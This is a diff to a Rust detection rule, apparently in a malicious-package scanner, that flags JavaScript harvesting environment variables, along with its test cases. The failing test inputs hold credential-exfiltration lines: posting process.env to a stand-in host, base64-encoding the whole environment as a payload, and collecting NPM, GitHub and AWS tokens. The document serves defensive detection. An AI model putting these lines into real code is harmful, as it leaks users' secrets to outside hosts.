@@ -60,6 +60,9 @@ impl Rule for EnvHarvesting {
                 out.push(file.finding(&Self::META, severity, Confidence::High, Some(call.offset as usize), message.to_owned(), None));
             }
         }
+        if let Some(member) = facts.members.iter().find(|member| member.path == crate::js::visitor::SERIALIZED_ENV) {
+            out.push(file.finding(&Self::META, Severity::High, Confidence::High, Some(member.offset as usize), "serialises the whole environment inside an object".to_owned(), None));
+        }
         let mut secrets = BTreeSet::new();
         let mut first = None;
         for member in &facts.members {
@@ -89,9 +92,12 @@ mod tests {
             "const debugKeys = Object.keys(process.env).filter((key) => /^debug_/i.test(key));".into(),
             "const env = process.env.NODE_ENV; console.log(JSON.stringify({ env }));".into(),
             "if (process.env.GITHUB_TOKEN) { useToken(process.env.GITHUB_TOKEN); }".into(),
+            "require('child_process').spawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });".into(),
         ];
         let fail = vec![
             "const data = JSON.stringify(process.env);".into(),
+            "req.end(JSON.stringify({ host: os.hostname(), env: process.env }));".into(),
+            "const payload = Buffer.from(JSON.stringify({ ...process.env })).toString('base64');".into(),
             "const axios = require('axios'); axios.post('https://h.example', process.env);".into(),
             "const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];".into(),
         ];
